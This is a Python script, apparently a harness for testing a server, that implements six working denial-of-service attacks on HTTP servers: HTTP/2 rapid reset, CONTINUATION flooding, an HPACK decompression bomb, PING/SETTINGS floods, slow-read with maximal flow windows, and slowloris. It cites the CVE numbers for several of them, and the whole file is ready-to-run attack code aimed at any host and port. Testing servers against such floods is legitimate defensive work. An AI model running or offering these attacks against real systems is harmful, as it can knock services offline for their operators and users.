"""A hostile HTTP client, on the packages hyperframe and hpack: `abuse.py ATTACK HOST PORT AUTHORITY`.

Does one thing that no honest client does, until it is cut off or has done it often enough, and prints one line of JSON:
how much it sent, and how it ended ("open" if it could have gone on for as long as was waited).
"""

import json
import os
import select
import socket
import sys
import time

import hpack
import hyperframe.frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATIENCE = 20


class Connection:
    """HTTP/2 by hand: what is sent is what the attack says, whatever the rules are."""

    def __init__(self, address, settings=None):
        self.socket = socket.create_connection(address, PATIENCE)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder, self.came, self.end = hpack.Encoder(), b"", None
        self.send(PREFACE + frames.SettingsFrame(0, settings=settings or {}).serialize())

    def send(self, data):
        try:
            self.socket.sendall(data)
            return True
        except OSError as error:
            self.end = self.end or type(error).__name__
            return False

    def look(self, wait=0.0):
        """Reads what is there; False once the other side has ended it."""
        while self.end is None and select.select([self.socket], [], [], wait)[0]:
            try:
                data = self.socket.recv(65536)
            except OSError as error:
                self.end = type(error).__name__
                break
            if not data:
                self.end = "closed"
                break
            self.came += data
            self.frames()
            wait = 0.0
        return self.end is None

    def ends(self, within):
        """Reads until the other side has ended it, or the time is over: what is cut off may first be answered."""
        until = time.monotonic() + within
        while self.look(max(0.0, until - time.monotonic())) and time.monotonic() < until:
            pass

    def frames(self):
        while len(self.came) >= 9:
            frame, length = frames.Frame.parse_frame_header(memoryview(self.came[:9]))
            if len(self.came) < 9 + length:
                return
            frame.parse_body(memoryview(self.came[9 : 9 + length]))
            self.came = self.came[9 + length :]
            if isinstance(frame, frames.GoAwayFrame):
                self.end = "goaway %d" % frame.error_code
            elif isinstance(frame, frames.SettingsFrame) and "ACK" not in frame.flags:
                acknowledged = frames.SettingsFrame(0)
                acknowledged.flags.add("ACK")
                self.send(acknowledged.serialize())

    def head(self, authority, path="/", more=()):
        fields = [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)]
        return self.encoder.encode(fields + list(more))


def headers(stream, block, *flags):
    frame = frames.HeadersFrame(stream, block)
    for flag in flags:
        frame.flags.add(flag)
    return frame.serialize()


def rapid_reset(address, authority, most=100_000):
    """Asks and takes it back at once (CVE-2023-44487)."""
    connection, sent = Connection(address), 0
    while sent < most and connection.look():
        batch = b""
        for _ in range(100):
            stream = 2 * sent + 1
            reset = frames.RstStreamFrame(stream, error_code=8).serialize()
            batch += headers(stream, connection.head(authority), "END_HEADERS", "END_STREAM") + reset
            sent += 1
        connection.send(batch)
    return sent, connection


def continuation(address, authority, most=4_096):
    """A head that never ends (CVE-2024-24549 and others): 16 KiB each, 64 MiB in all."""
    connection, sent = Connection(address), 0
    connection.send(headers(1, connection.head(authority), "END_STREAM"))
    while sent < most and connection.look():
        # A literal that is not indexed: a new name and a value of random hex.
        value = os.urandom(8_150).hex().encode()
        block = b"\x00\x05x-%03d" % (sent % 1_000) + b"\x7f" + varint(len(value) - 127) + value
        connection.send(frames.ContinuationFrame(1, block[:16_384]).serialize())
        sent += 1
    return sent, connection


def varint(number):
    out = b""
    while number >= 128:
        out += bytes([number % 128 + 128])
        number //= 128
    return out + bytes([number])


def hpack_bomb(address, authority, most=50):
    """A few kilobytes that unpack to a hundred megabytes: one long field, referred to again and again."""
    connection, sent = Connection(address), 0
    while sent < most and connection.look():
        stream, name = 2 * sent + 1, b"x-long"
        value = b"a" * 3_900
        literal = b"\x40" + bytes([len(name)]) + name + b"\x7f" + varint(len(value) - 127) + value
        # 62 is the newest entry of the dynamic table.
        block = connection.head(authority) + literal + b"\xbe" * 12_000
        connection.send(headers(stream, block, "END_HEADERS", "END_STREAM"))
        sent += 1
    return sent, connection


def flood(address, _authority, most=2_000_000):
    """PINGs and SETTINGS that want an answer each, while nothing is read (CVE-2019-9512, -9515)."""
    connection, sent = Connection(address), 0
    ping = frames.PingFrame(0, opaque_data=b"12345678").serialize()
    batch = (ping + frames.SettingsFrame(0, settings={}).serialize()) * 500
    connection.socket.settimeout(5)
    while sent < most and connection.send(batch):
        sent += 1_000
    return sent, connection


def slow_read(address, authority, most=100):
    """Large answers that nobody reads, each on a connection of its own."""
    connections = []
    for _ in range(most):
        connection = Connection(address, {frames.SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1})
        connection.send(frames.WindowUpdateFrame(0, window_increment=2**31 - 1 - 65_535).serialize())
        connection.send(headers(1, connection.head(authority, "/10000000"), "END_HEADERS", "END_STREAM"))
        connections.append(connection)
    select.select([], [], [], 5)
    return len(connections), None


def slowloris(address, authority, most=500):
    """Heads that come a byte at a time."""
    sockets = [socket.create_connection(address, PATIENCE) for _ in range(most)]
    head = ("GET / HTTP/1.1\r\nHost: %s\r\nX-Slow: aaaaaaaaaaaaaaaaaaaa" % authority).encode()
    for byte in head:
        for one in sockets:
            one.sendall(bytes([byte]))
        select.select([], [], [], 0.05)
    return len(sockets), None


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "hpack-bomb": hpack_bomb,
    "flood": flood,
    "slow-read": slow_read,
    "slowloris": slowloris,
}


def main():
    attack, host, port, authority = sys.argv[1:]
    sent, connection = ATTACKS[attack]((host, int(port)), authority)
    if connection is not None:
        connection.ends(PATIENCE)
    end = (connection.end if connection else None) or "open"
    print(json.dumps({"attack": attack, "sent": sent, "end": end}))


main()
